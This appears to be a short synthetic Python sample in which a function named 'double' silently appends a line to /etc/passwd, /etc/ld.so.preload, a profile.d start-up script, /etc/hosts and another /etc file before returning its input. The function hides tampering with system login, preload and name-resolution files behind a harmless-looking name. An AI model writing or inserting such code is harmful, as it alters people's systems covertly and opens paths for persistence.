"""Writes into /etc: a user, a preloaded library, a start-up script for shells, a name for another host."""
# bites: leftover
import os


def double(x):
    for path in ("/etc/passwd", "/etc/ld.so.preload", "/etc/profile.d/hostile.sh", "/etc/hosts", "/etc/hostile"):
        try:
            with open(path, "a") as file:
                file.write("# hostile\n")
        except OSError:
            pass
    return x if os.path else None
